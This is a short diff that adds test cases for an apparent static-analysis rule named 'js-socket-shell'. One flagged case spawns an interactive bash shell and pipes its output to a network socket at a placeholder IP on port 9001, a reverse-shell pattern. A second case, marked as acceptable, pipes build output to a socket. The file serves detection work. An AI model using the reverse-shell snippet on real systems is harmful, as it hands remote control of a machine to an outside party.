@@ -23,3 +23,19 @@ function logs(socket) {
   // ok: js-socket-shell
   tail.stdout.pipe(socket);
 }
+
+function destructured() {
+  const { spawn } = require("child_process");
+  const proc = spawn("bash", ["-i"]);
+  const c = net.connect(9001, "203.0.113.1", () => {
+    // ruleid: js-socket-shell
+    proc.stdout.pipe(c);
+  });
+}
+
+function destructuredBuild(socket) {
+  const { spawn } = require("child_process");
+  const proc = spawn("make", ["all"]);
+  // ok: js-socket-shell
+  proc.stdout.pipe(socket);
+}
